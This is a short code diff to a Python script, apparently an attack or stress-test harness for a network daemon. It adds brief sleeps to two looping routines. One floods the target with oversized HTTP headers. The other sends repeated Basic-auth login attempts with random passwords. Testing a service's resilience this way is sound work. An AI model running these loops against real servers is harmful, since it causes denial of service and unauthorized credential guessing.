@@ -69,6 +69,8 @@ def large_heads(target: Target, address: str) -> None:
     while True:
         with contextlib.suppress(*REFUSED), connect(target, address) as one:
             one.sendall(HEAD + b"X-Long: " + b"x" * (1 << 20))
+        # The machine of the daemon is not to be busy with the attack itself.
+        time.sleep(0.02)
 
 
 def guesses(target: Target, address: str) -> None:
@@ -77,6 +79,7 @@ def guesses(target: Target, address: str) -> None:
             word = base64.b64encode(f"{USER}:{secrets.token_hex()}".encode())
             one.sendall(HEAD + b"Authorization: Basic " + word + b"\r\n\r\n")
             one.recv(1000)
+        time.sleep(0.02)
 
 
 PLAIN: dict[str, Attack | None] = {
